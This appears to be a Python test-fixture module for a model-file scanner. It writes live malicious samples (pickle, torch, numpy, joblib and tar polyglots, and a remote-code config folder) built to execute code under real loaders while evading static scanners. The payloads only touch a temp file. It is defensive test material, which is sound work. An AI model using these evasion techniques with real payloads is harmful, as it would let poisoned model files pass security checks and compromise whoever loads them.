"""One live payload per technique of issue 9 (a file that runs code under its real loader while an opcode walker,
a stdlib sniffer or a partial folder scan sees nothing), written at test time into a temp dir.

Each payload only ever creates ``target`` (a path in a temp dir). ``TECHNIQUES`` maps a technique to its samples;
``Sample.loader`` says how the positive control loads it (see ``FIRE`` in tests/test_security_techniques.py):
``pickle`` (``pickle.load`` on an open file, again and again), ``pickle_bytes`` (``pickle.load`` of an
``io.BytesIO``: what code that downloads a pickle does), ``torch`` (``torch.load(weights_only=False)``), ``numpy``
(``np.load(allow_pickle=True)``, every key), ``joblib`` (``joblib.load``), ``torch:<file>`` (``torch.load`` of a file
inside a sample folder), ``remote_code`` (``AutoModel.from_pretrained(folder, trust_remote_code=True)``) and
``torch_crash`` (the loader dies: the file's arguments reach native code). All payloads were written for this project
from the issue's descriptions; no scanner's corpus is used.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import malicious_samples as ms
from malicious_samples import glob, os_system, p2, u

Writer = Callable[[Path, str], Path]


@dataclass(frozen=True)
class Sample:
    name: str
    write: Writer
    loader: str


TECHNIQUES: dict[str, list[Sample]] = {}


def technique(name: str, sample: str, loader: str) -> Callable[[Writer], Writer]:
    def register(write: Writer) -> Writer:
        TECHNIQUES.setdefault(name, []).append(Sample(sample, write, loader))
        return write

    return register


def touch_payload(target: str) -> bytes:
    """Protocol-0 opcodes that call os.system('touch target') and leave nothing on the stack."""
    return f"cos\nsystem\n(S'touch {target}'\ntR0".encode()


def bb(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def torch_zip_with(data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A real torch.save archive whose data.pkl is replaced (its storages stay; torch loads what it names)."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, data_pkl if info.filename.endswith("/data.pkl") else zin.read(info))
        for name, data in (extra or {}).items():
            zout.writestr(f"{zin.infolist()[0].filename.split('/')[0]}/{name}", data)
    return out.getvalue()


def legacy_torch_bytes(obj: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def legacy_with_payload(target: str) -> bytes:
    """A legacy torch.save (what torch.storage._load_from_bytes loads) whose sys_info stream runs a payload."""
    data = legacy_torch_bytes({"w": 1})
    magic_and_protocol = 15 + 6  # PROTO 2 + LONG1 magic + STOP, then PROTO 2 + BININT2 1001 + STOP
    return data[:magic_and_protocol] + b"\x80\x02" + touch_payload(target) + data[magic_and_protocol + 2 :]


# --------------------------------------------------------------------------------------------------------------
# 1. integer syntax: CPython parses INT/LONG text arguments with base 0 (and strtol in C)
# --------------------------------------------------------------------------------------------------------------


@technique("int-syntax", "msgpack_polyglot_int_hex", "pickle")
def _int_hex_polyglot(directory: Path, target: str) -> Path:
    """A valid flax msgpack file that is also a pickle whose stream holds ``I0x1`` (CPython: 1; a base-10 walker
    stops there and a probe that swallows its error sees nothing) before the payload."""
    path = directory / "params.msgpack"
    path.write_bytes(ms.msgpack_pickle_polyglot(b"I0x1\n0" + p2(os_system(target))[2:-1]))
    return path


@technique("int-syntax", "octal_int_then_payload", "pickle")
def _int_octal(directory: Path, target: str) -> Path:
    """``I010`` is 8 for the C unpickler and an error for the pure-Python one (joblib): pickle.load runs what
    follows, joblib.load does not; the two loaders read the file differently."""
    path = directory / "model.pkl"
    path.write_bytes(b"I010\n0" + touch_payload(target) + b"N.")
    return path


# --------------------------------------------------------------------------------------------------------------
# 2. an argument that crosses a FRAME boundary
# --------------------------------------------------------------------------------------------------------------


def frame_straddle(payload: bytes) -> bytes:
    """Protocol 4: a FRAME ending 5 bytes into a BINUNICODE's data. The C unpickler reading a file object
    (torch.load's io.BytesIO of data.pkl) drops the frame's tail and reads the string from after the frame, then
    runs ``payload``; a linear reader (pickletools, a walker ignoring frames) reads the tail as the string's start,
    then a BINBYTES that swallows the payload: it sees a list, a string and bytes."""
    tail = 5
    length = 8
    body = b"]X" + struct.pack("<I", length) + b"q" * tail  # the frame ends inside the string's data
    after = (
        b"a" * (length - tail) + b"B" + struct.pack("<I", len(payload))
    )  # linear: string end, then BINBYTES
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + after + payload + b"."


@technique("frame-straddle", "torch_zip_frame_straddle", "torch")
def _straddle_zip(directory: Path, target: str) -> Path:
    path = directory / "straddle.pt"
    path.write_bytes(torch_zip_with(frame_straddle(touch_payload(target))))
    return path


@technique("frame-straddle", "pickle_frame_straddle", "pickle_bytes")
def _straddle_pickle(directory: Path, target: str) -> Path:
    path = directory / "straddle.pkl"
    path.write_bytes(frame_straddle(touch_payload(target)))
    return path


# --------------------------------------------------------------------------------------------------------------
# 3. BUILD on an OrderedDict: CPython calls a __setstate__ an earlier BUILD planted on the instance
# --------------------------------------------------------------------------------------------------------------


@technique("planted-setstate", "ordereddict_planted_load_from_bytes", "torch")
def _planted(directory: Path, target: str) -> Path:
    """OrderedDict() gets the attribute __setstate__ = torch.storage._load_from_bytes (a global torch itself
    allows); the next BUILD calls it with bytes: an unrestricted torch.load of a nested payload."""
    nested = legacy_with_payload(target)
    data_pkl = p2(
        glob("collections", "OrderedDict")
        + b")R"
        + b"}"
        + u("__setstate__")
        + glob("torch.storage", "_load_from_bytes")
        + b"sb"
        + bb(nested)
        + b"b"
    )
    path = directory / "planted.pt"
    path.write_bytes(torch_zip_with(data_pkl))
    return path


# --------------------------------------------------------------------------------------------------------------
# 4. a memoised container duplicates a call-only global for free
# --------------------------------------------------------------------------------------------------------------


@technique("memoised-call-only", "memoised_append_load_from_bytes", "torch")
def _memoised(directory: Path, target: str) -> Path:
    """One {'append': _load_from_bytes} dict, memoised, planted on two OrderedDicts by BUILD; APPEND then calls
    the global through each of them (one import, several calls; the C unpickler looks ``extend`` up first and
    falls back on the planted ``append``)."""
    nested = legacy_with_payload(target)
    benign = legacy_torch_bytes({"w": 2})
    ordered_dict = glob("collections", "OrderedDict") + b")R"
    state = b"}" + u("append") + glob("torch.storage", "_load_from_bytes") + b"sq\x07"
    data_pkl = p2(
        b"}"
        + u("a") + ordered_dict + state + b"b" + bb(benign) + b"as"
        + u("b") + ordered_dict + b"h\x07b" + bb(nested) + b"as"
    )  # fmt: skip
    path = directory / "memoised.pt"
    path.write_bytes(torch_zip_with(data_pkl))
    return path


# --------------------------------------------------------------------------------------------------------------
# 5. keyword arguments to a storage
# --------------------------------------------------------------------------------------------------------------


@technique("storage-kwargs", "untyped_storage_allocator", "torch_crash")
def _kwargs(directory: Path, target: str) -> Path:
    """NEWOBJ_EX UntypedStorage(8, allocator=1): torch calls through the allocator pointer the file chose."""
    data_pkl = (
        b"\x80\x04"
        + ms.sglob("torch.storage", "UntypedStorage")
        + b"K\x08\x85}"
        + ms.su("allocator")
        + b"K\x01s\x92."
    )
    path = directory / "kwargs.pt"
    path.write_bytes(torch_zip_with(data_pkl))
    return path


# --------------------------------------------------------------------------------------------------------------
# 6. tar: the format torch.load tries first, decided by tarfile
# --------------------------------------------------------------------------------------------------------------


def _tar_member_header(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(format=tarfile.USTAR_FORMAT)


def legacy_tar_polyglot(target: str) -> bytes:
    """A benign legacy torch file that is also a tar-format torch file whose ``pickle`` member runs a payload.

    Legacy streams: magic, protocol, sys_info = {<key bytes>: None}, the object {'x': <bytes>}, keys []. The tar's
    first header is bytes 0-511: the first two streams and the start of sys_info, the header fields inside the
    BINBYTES key; its checksum is written base-256 (tarfile's nti() reads it). That member's data runs to offset
    1536, where the object's BINBYTES value holds the real tar members (storages, tensors, pickle) and the end of
    the archive; what follows is ignored by tarfile.
    """
    members = ms.tar_members({"w": ((2,), [1.0, 2.0])}, os_system(target, "os"))
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    protocol = b"\x80\x02M\xe9\x03."
    head = magic + protocol + b"\x80\x02}B"
    key_start = len(head) + 4
    key_len = 1024 - key_start  # the key covers the rest of block 0 and block 1
    block = bytearray(head + struct.pack("<I", key_len) + b"\x01" * (512 - key_start))
    fields = {100: b"0000644\0", 108: b"0000000\0", 116: b"0000000\0", 124: b"%011o\0" % 1024,
              136: b"00000000000\0", 157: b"\0" * 100, 265: b"\0" * 64, 329: b"0000000\0" * 2,
              345: b"\0" * 155}  # fmt: skip
    for at, text in fields.items():
        block[at : at + len(text)] = text
    block[156:157] = b"0"
    block[257:265] = b"ustar\x0000"
    block[148:156] = b" " * 8
    block[148:156] = b"\x80" + sum(block).to_bytes(7, "big")  # base-256 checksum
    sys_info = bytes(block) + b"\x02" * 512 + b"Ns."  # the key's last 512 bytes, then {key: None}
    rest = b""
    for name, data in members.items():
        rest += _tar_member_header(name, len(data)) + data + b"\0" * (-len(data) % 512)
    rest += b"\0" * 1024  # end of archive
    before_value = (
        2 + 1 + 1 + 4 + 1 + 4
    )  # PROTO, EMPTY_DICT, BINUNICODE and its length, BINBYTES and its length
    filler = 1536 - len(sys_info) - before_value
    obj = b"\x80\x02}X" + struct.pack("<I", filler) + b"x" * filler + b"B" + struct.pack("<I", len(rest))
    assert len(sys_info) + len(obj) == 1536, "the tar members must start at a block boundary"
    data = sys_info + obj + rest + b"s." + b"\x80\x02]."
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as tar:  # what torch.load opens first
        tar.getmember("pickle")
    return data


@technique("tar-format", "legacy_tar_polyglot_base256_checksum", "torch")
def _legacy_tar(directory: Path, target: str) -> Path:
    path = directory / "legacy_tar.pt"
    path.write_bytes(legacy_tar_polyglot(target))
    return path


@technique("tar-format", "tar_first_member_name_is_a_pickle", "pickle")
def _tar_name(directory: Path, target: str) -> Path:
    """A tar-format torch file (benign members) whose first member's name field is a pickle stream:
    pickle.load of the file runs it."""
    members = ms.tar_members({"w": ((2,), [1.0, 2.0])})
    name_pickle = touch_payload(Path(target).name) + b"N."  # relative: the loader runs in the canary folder
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo(name_pickle.decode("latin-1"))
        info.size = 0
        tar.addfile(info, io.BytesIO(b""))
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path = directory / "tar_name.pt"
    data = buf.getvalue()
    assert data.startswith(name_pickle), "the name must be the header's first bytes"
    path.write_bytes(data)
    return path


# --------------------------------------------------------------------------------------------------------------
# 7. numpy: allow_pickle=True lifts the 10,000-character header limit; dtypes that hold objects
# --------------------------------------------------------------------------------------------------------------


def npy_with(descr: str, shape: str, pickle_data: bytes, pad_to: int = 0) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * max(pad_to - len(header) - 1, 0) + "\n"
    encoded = header.encode("latin1")
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(encoded)) + encoded + pickle_data


def _object_pickle(target: str) -> bytes:
    return p2(os_system(target))


@technique("numpy-header", "npz_member_without_npy_long_header", "numpy")
def _npz_long(directory: Path, target: str) -> Path:
    path = directory / "long_header.npz"
    import numpy as np

    np.savez(path, weights=np.zeros(3, np.float32))
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("config", npy_with("'|O'", "(1,)", _object_pickle(target), pad_to=12_000))
    return path


@technique("numpy-header", "npy_structured_with_object_field", "numpy")
def _npy_struct(directory: Path, target: str) -> Path:
    path = directory / "fields.npy"
    path.write_bytes(npy_with("'i4,O'", "()", _object_pickle(target)))
    return path


@technique("numpy-header", "npy_subarray_of_objects", "numpy")
def _npy_sub(directory: Path, target: str) -> Path:
    path = directory / "subarray.npy"
    path.write_bytes(npy_with("'(2,)O'", "()", _object_pickle(target)))
    return path


@technique("numpy-header", "torch_zip_member_npy_object_long_header", "numpy")
def _zip_npy(directory: Path, target: str) -> Path:
    import torch
    from malicious_samples import _benign_state

    buf = io.BytesIO()
    torch.save(_benign_state(), buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info))
        zout.writestr("extra/meta", npy_with("'|O'", "(1,)", _object_pickle(target), pad_to=12_000))
    path = directory / "with_npy.pt"
    path.write_bytes(out.getvalue())
    return path


# --------------------------------------------------------------------------------------------------------------
# 8. what a reader could not judge used to end as "clean"
# --------------------------------------------------------------------------------------------------------------


@technique("unjudged", "zlib_joblib_payload", "joblib")
def _zlib(directory: Path, target: str) -> Path:
    """A joblib.dump(compress=True)-style file (zlib): no pickle magic in sight until it is decompressed."""
    import zlib

    path = directory / "model.joblib"
    path.write_bytes(zlib.compress(p2(b"}" + u("m") + os_system(target) + b"s")))
    return path


@technique("unjudged", "joblib_arrays_then_payload", "joblib")
def _joblib_then(directory: Path, target: str) -> Path:
    """A joblib.dump file: arrays whose bytes sit inline in the stream (an opcode walker desyncs there), then an
    object that runs code when joblib.load rebuilds it."""
    import joblib
    import numpy as np

    path = directory / "model.joblib"
    joblib.dump(
        {"a": np.arange(6, dtype=np.float32), "b": np.ones((2, 2)), "z": ms.evil_object(target)}, path
    )
    return path


class _Unseekable(io.RawIOBase):
    def __init__(self, fh: io.BufferedWriter) -> None:
        self.fh = fh

    def writable(self) -> bool:
        return True

    def write(self, data: bytes) -> int:  # type: ignore[override]
        return self.fh.write(data)

    def tell(self) -> int:
        raise io.UnsupportedOperation("unseekable")


@technique("unjudged", "joblib_array_bytes_are_opcodes", "pickle")
def _joblib_unaligned(directory: Path, target: str) -> Path:
    """A benign-looking joblib.dump (written to an unseekable stream: no alignment padding) whose first array's
    bytes are opcodes: joblib.load reads them as data, pickle.load runs them."""
    import joblib
    import numpy as np

    path = directory / "model.pkl"
    data = np.frombuffer(touch_payload(target), np.uint8)
    with open(path, "wb") as fh:
        joblib.dump({"a": data, "w": np.zeros(4, np.float32)}, _Unseekable(fh))
    return path


@technique("unjudged", "nested_payload_after_unparseable_int", "numpy")
def _npz_nested(directory: Path, target: str) -> Path:
    """An npz object array whose pickle holds ``L0x10L`` (base 0 in CPython) before the payload."""
    path = directory / "objects.npz"
    import numpy as np

    np.savez(path, w=np.zeros(2, np.float32))
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr("meta", npy_with("'|O'", "(1,)", b"\x80\x02L0x10L\n0" + p2(os_system(target))[2:]))
    return path


# --------------------------------------------------------------------------------------------------------------
# 9. whole folders
# --------------------------------------------------------------------------------------------------------------


def _hf_folder(directory: Path, name: str) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    folder = directory / name
    folder.mkdir()
    save_file({"w": np.zeros((2, 3), np.float32)}, str(folder / "model.safetensors"))
    (folder / "config.json").write_text(json.dumps({"model_type": "clip", "architectures": ["CLIPModel"]}))
    return folder


def _evil_torch_file(path: Path, target: str) -> None:
    import torch

    torch.save({"step": 3, "evil": ms.evil_object(target)}, path)


@technique("folders", "nested_checkpoint_optimizer", "torch:checkpoint-500/optimizer.pt")
def _nested_folder(directory: Path, target: str) -> Path:
    folder = _hf_folder(directory, "nested")
    (folder / "checkpoint-500").mkdir()
    _evil_torch_file(folder / "checkpoint-500" / "optimizer.pt", target)
    return folder


@technique("folders", "upper_case_optimizer", "torch:OPTIMIZER.PT")
def _upper(directory: Path, target: str) -> Path:
    folder = _hf_folder(directory, "upper")
    _evil_torch_file(folder / "OPTIMIZER.PT", target)
    return folder


@technique("folders", "model_best_pth_tar", "torch:model_best.pth.tar")
def _pth_tar(directory: Path, target: str) -> Path:
    folder = _hf_folder(directory, "pth_tar")
    _evil_torch_file(folder / "model_best.pth.tar", target)
    return folder


@technique("folders", "tar_format_file_in_folder", "torch:old.tar")
def _tar_in_folder(directory: Path, target: str) -> Path:
    folder = _hf_folder(directory, "tar")
    (folder / "old.tar").write_bytes(ms.tar_checkpoint(ms.tar_members({"w": ((2,), [1.0, 2.0])},
                                                                      os_system(target, "os"))))  # fmt: skip
    return folder


@technique("folders", "config_auto_map_remote_code", "remote_code")
def _auto_map(directory: Path, target: str) -> Path:
    """A config.json with auto_map: from_pretrained(..., trust_remote_code=True) imports the shipped module."""
    folder = directory / "remote_code"
    folder.mkdir()
    config = {
        "model_type": "tinyremote",
        "architectures": ["TinyModel"],
        "auto_map": {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"},
    }
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "configuration_tiny.py").write_text(
        f"open({target!r}, 'w').close()\n"
        "from transformers import PretrainedConfig\n\n"
        "class TinyConfig(PretrainedConfig):\n    model_type = 'tinyremote'\n"
    )
    (folder / "modeling_tiny.py").write_text(
        "import torch\nfrom transformers import PreTrainedModel\nfrom .configuration_tiny import TinyConfig\n\n"
        "class TinyModel(PreTrainedModel):\n    config_class = TinyConfig\n\n"
        "    def __init__(self, config):\n        super().__init__(config)\n"
        "        self.w = torch.nn.Parameter(torch.zeros(2))\n"
    )
    import torch

    torch.save({"w": torch.zeros(2)}, folder / "pytorch_model.bin")
    return folder


def write(directory: Path, sample: Sample, target: str) -> Path:
    sub = directory / sample.name
    sub.mkdir(parents=True, exist_ok=True)
    return sample.write(sub, target)


ALL: list[tuple[str, Sample]] = [(t, s) for t, samples in TECHNIQUES.items() for s in samples]
